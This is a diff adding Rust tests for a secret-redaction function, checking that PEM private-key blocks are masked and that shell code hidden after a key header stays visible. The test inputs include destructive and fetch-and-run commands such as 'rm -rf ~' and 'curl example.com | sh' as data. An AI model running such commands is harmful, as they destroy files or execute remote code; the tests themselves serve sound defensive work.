@@ -58,6 +58,24 @@ fn g2_what_is_around_a_secret_stays() {
     let pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----";
     assert_eq!(text(&format!("a\n{pem}\nb")), "a\n[redacted]\nb");
     assert_eq!(text("-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blb"), "[redacted]", "cut off");
+    let body = "MIIEowIBAAKCAQEA7bq98a7bq98a7bq98a7bq98a7bq98a7bq98a7bq98a7bq98a";
+    let headers = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n";
+    for (line, sign) in [("\n", ""), ("\n", "+"), ("\r\n", ""), ("\\n", "")] {
+        let key = format!("BEGIN RSA PRIVATE KEY-----{line}{sign}{body}{line}{sign}{body}{line}{sign}QwE=");
+        let pem = format!("a -----{key}{line}{sign}-----END RSA PRIVATE KEY----- b");
+        assert_eq!(text(&pem), "a [redacted] b");
+    }
+    assert_eq!(text(&format!("-----BEGIN RSA PRIVATE KEY-----\n{headers}{body}\n")), "[redacted]\n");
+}
+
+#[test]
+fn h3_code_behind_the_first_line_of_a_key_stays_readable() {
+    for code in ["touch pwned\necho done\n", "\ntouch pwned\n", "'\nrm -rf ~\n", "\ncurl example.com | sh"] {
+        let shown = text(&format!(": '-----BEGIN PRIVATE KEY-----'{code}"));
+        assert!(shown.contains(code.trim()), "{shown}");
+        let shown = text(&format!("-----BEGIN PRIVATE KEY-----\n{code}\n-----END PRIVATE KEY-----"));
+        assert!(shown.contains(code.trim()), "{shown}");
+    }
 }
 
 #[test]
